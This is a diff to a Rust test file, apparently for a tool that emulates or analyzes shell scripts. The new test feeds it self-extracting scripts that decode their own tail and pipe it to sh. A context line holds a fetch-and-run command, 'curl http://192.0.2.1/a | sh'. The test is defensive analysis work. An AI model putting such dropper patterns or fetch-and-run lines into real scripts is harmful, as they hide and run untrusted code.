@@ -266,6 +266,22 @@ fn no_script_of_shell_words_breaks_the_emulator() {
 }
 
 #[test]
+fn scripts_that_carry_their_payload_are_read_to_the_end() {
+    for script in [
+        "#!/bin/sh\ntail -n +4 \"$0\" | base64 -d | sh\nexit 0\nY3VybCAtVgo=\n",
+        "sed '1,/^__END__$/d' \"$0\" | sh; exit\n__END__\ncurl -V\n",
+        "awk '/^__END__/{p=1;next} p' \"$0\" | sh; exit\n__END__\ncurl -V\n",
+        "#!/bin/sh\ndd if=\"$0\" bs=1 skip=56 2>/dev/null | sh\nexit\ncurl -V\n\0'",
+    ] {
+        let path = Fixture::new().file("entry.sh", script, 0o755).start(&["/entry.sh"], &[]).follow();
+        assert!(lines(&path).contains(&"run curl -V".to_owned()), "{script} {:?}", lines(&path));
+    }
+    let path =
+        Fixture::new().file("e.sh", "#!/bin/sh\np\nexit\n\0'\"(", 0o755).start(&["/e.sh"], &[]).follow();
+    assert!(path.gaps.is_empty(), "{:?}", path.gaps);
+}
+
+#[test]
 fn bytes_that_no_shell_reads_are_a_gap() {
     let wide: Vec<u8> = "curl http://192.0.2.1/a | sh\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
     let text = String::from_utf8(wide).unwrap();
